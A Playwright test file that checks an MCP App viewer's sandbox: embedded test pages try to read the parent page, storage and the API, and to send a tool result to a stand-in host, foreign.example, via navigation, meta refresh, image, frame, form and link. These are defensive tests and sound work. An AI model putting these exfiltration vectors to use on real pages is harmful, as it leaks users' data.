"""The page of an MCP App: shown in the viewer from the content host, and kept apart there."""

import json
import socket
import zlib
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser import shop
from tests.browser.conftest import OpenTab
from tests.browser.test_content_origin import TwoOrigins, two_origins
from tests.kit.media import b64
from tests.kit.servers import LiveService

__all__ = ["two_origins"]

# An app that shows its messages, and then makes attempts that are forbidden.
APP = """<!doctype html><meta charset="utf-8"><title>App</title>
<pre id="input"></pre><pre id="result"></pre><pre id="call"></pre><pre id="tried"></pre>
<script type="module">
  const show = (id, value) => { document.getElementById(id).textContent = JSON.stringify(value); };
  const send = (message) => parent.postMessage({ jsonrpc: "2.0", ...message }, "*");
  const attempt = async (work) => {
    try { return await work(); } catch (error) { return error.name; }
  };
  addEventListener("message", async ({ data }) => {
    if (data.id === 1) {
      send({ method: "ui/notifications/initialized" });
      send({ method: "ui/notifications/size-changed", params: { height: 5000 } });
      send({ id: "2", method: "tools/call", params: { name: "clock", arguments: {} } });
    }
    if (data.id === "2") show("call", data.error);
    if (data.method === "ui/notifications/tool-input") show("input", data.params);
    if (data.method === "ui/notifications/tool-result") show("result", data.params);
    if (data.method !== "ui/notifications/tool-result") return;
    show("tried", [
      self.origin,
      await attempt(() => parent.document.title),
      await attempt(() => localStorage.length),
      await attempt(() => fetch("%(api)s/api/sessions").then((answer) => answer.status)),
      await attempt(() => fetch("/healthz").then((answer) => answer.status)),
      await attempt(() => { top.location = "%(api)s/healthz"; return "left"; }),
      await attempt(() => open("about:blank")),
    ]);
  });
  send({
    id: 1,
    method: "ui/initialize",
    params: { protocolVersion: "2026-01-26", appInfo: { name: "a", version: "1" },
              appCapabilities: {} },
  });
</script>"""


# The beginning of an app that leaves its document.
AWAY = """<!doctype html><meta charset="utf-8"><body><script>
  const add = (name, members) =>
    document.body.appendChild(Object.assign(document.createElement(name), members));
"""


def app_block(html: str, policy: object = None) -> dict[str, Any]:
    """The last block of a result, as the proxy stores the page of an app."""
    data = f"data:text/html;base64,{b64(html.encode())}"
    meta = {"pagefault/app": policy or {}}
    return {
        "type": "file",
        "filename": "app.html",
        "uri": "ui://clock/app.html",
        "data": data,
        "_meta": meta,
    }


def store_app(two_origins: TwoOrigins, session: str, html: str, policy: object = None) -> None:
    """Store a call of the tool of an app, and its result with the page."""
    function = {"name": "clock", "arguments": json.dumps({"zone": "UTC"})}
    calls = [{"id": "call_1", "type": "function", "function": function}]
    text = {"type": "text", "text": "12:00"}
    body = {
        "toolName": "clock",
        "toolCallId": "call_1",
        "sessionId": session,
        "callMessage": {"role": "assistant", "content": None, "tool_calls": calls},
        "result": {
            "content": [text, app_block(html, policy)],
            "structuredContent": {"time": "12:00"},
        },
    }
    with two_origins.client() as agent:
        agent.post("/api/tool-results", json=body).raise_for_status()


@pytest.mark.promise(
    "security.md#the-origin-in-a-browser",
    "A page of an MCP App gets the input and the result of its call, and can reach nothing else",
    kept_by="web/src/apps/AppView.tsx",
    tried="its parent, storage, the API, its host, navigation, a window, a call of a tool",
)
def test_app_gets_its_call_and_nothing_else_before_and_after_a_reload(
    two_origins: TwoOrigins, open_tab: OpenTab
) -> None:
    tab = open_tab(two_origins.process)
    store_app(two_origins, "app", APP % {"api": tab.base_url})
    tab.open("/sessions/app")
    tab.give_key(two_origins.key)
    for is_reloaded in (False, True):
        if is_reloaded:
            tab.page.reload()
        frame = tab.page.frame_locator("iframe")
        expect(frame.locator("#input")).to_have_text('{"arguments":{"zone":"UTC"}}')
        expect(frame.locator("#call")).to_contain_text('"code":-32601')
        expect(frame.locator("#tried")).to_contain_text("]")
        result = json.loads(frame.locator("#result").inner_text())
        assert result["content"] == [{"type": "text", "text": "12:00"}]
        assert result["structuredContent"] == {"time": "12:00"}
        refused = ["SecurityError", "SecurityError", "TypeError", "TypeError", "SecurityError"]
        assert json.loads(frame.locator("#tried").inner_text()) == ["null", *refused, None]
        expect(tab.page.locator("iframe")).to_have_css("height", "1200px")
    assert all("/content?token=" in url for url in two_origins.forgive(tab))
    # The attempts of an app are errors on the console.
    tab.faults.clear()


@pytest.mark.promise(
    "security.md#the-origin-in-a-browser",
    "A page of an MCP App cannot take the result of its call to another host",
    kept_by="app/routers/viewer.py",
    tried="by its address, a refresh, an image, a frame, a form and a link for a new window",
)
@pytest.mark.parametrize(
    "attempt",
    [
        "location.href = url;",
        "add('meta', { httpEquiv: 'refresh', content: `0; url=${url}` });",
        "add('img', { src: url });",
        "add('iframe', { src: url });",
        "const form = add('form', { action: url, method: 'get' }); form.submit();",
        "add('a', { href: url, target: '_blank' }).click();",
    ],
)
def test_app_takes_nothing_to_another_host(
    two_origins: TwoOrigins, open_tab: OpenTab, attempt: str
) -> None:
    session = f"away-{zlib.crc32(attempt.encode())}"
    with socket.create_server(("127.0.0.1", 0)) as foreign:
        url = f"http://foreign.example:{foreign.getsockname()[1]}/?12:00"
        store_app(two_origins, session, f"{AWAY}const url = '{url}'; {attempt}</script>")
        tab = open_tab(two_origins.process)
        tab.open(f"/sessions/{session}")
        with tab.page.expect_event("console", lambda message: "foreign.example" in message.text):
            tab.give_key(two_origins.key)
        foreign.setblocking(False)
        with pytest.raises(BlockingIOError):
            foreign.accept()
    # Chromium reports the requests that it blocks; the last report is late.
    tab.page.close()
    tab.faults.clear()


def test_app_that_may_reach_other_hosts_is_opened_by_a_click(
    two_origins: TwoOrigins, open_tab: OpenTab
) -> None:
    domains = ["https://api.time.example", "http://time.example", "https://127.0.0.1", "a b", 7]
    html = "<!doctype html><title>App</title><p>opened</p>"
    store_app(two_origins, "hosts", html, {"csp": {"connectDomains": domains}})
    tab = open_tab(two_origins.process)
    tab.open("/sessions/hosts")
    tab.give_key(two_origins.key)
    page = tab.page
    expect(page.get_by_text("It may load from, and send to: api.time.example")).to_be_visible()
    expect(page.locator("iframe")).to_have_count(0)
    with page.expect_response(lambda answer: "/content?token=" in answer.url) as answered:
        page.get_by_role("button", name="Open the app").click()
    expect(page.frame_locator("iframe").get_by_text("opened")).to_be_visible()
    policy = answered.value.headers["content-security-policy"].split("; ")
    assert "connect-src https://api.time.example" in policy
    assert f"frame-ancestors {tab.base_url}" in policy
    two_origins.forgive(tab)


def test_app_is_not_shown_where_content_has_no_host_of_its_own(
    open_service: LiveService, open_tab: OpenTab
) -> None:
    result = shop.content(shop.text("12:00"), app_block("<p>opened</p>"))
    with open_service.client() as client:
        shop.written(client, [shop.tool_result("clock", "call_1", result)])
    tab = open_tab(open_service)
    tab.open(f"/sessions/{shop.SESSION}")
    expect(tab.page.get_by_text("set PAGEFAULT_CONTENT_URL")).to_be_visible()
    expect(tab.page.locator("iframe")).to_have_count(0)
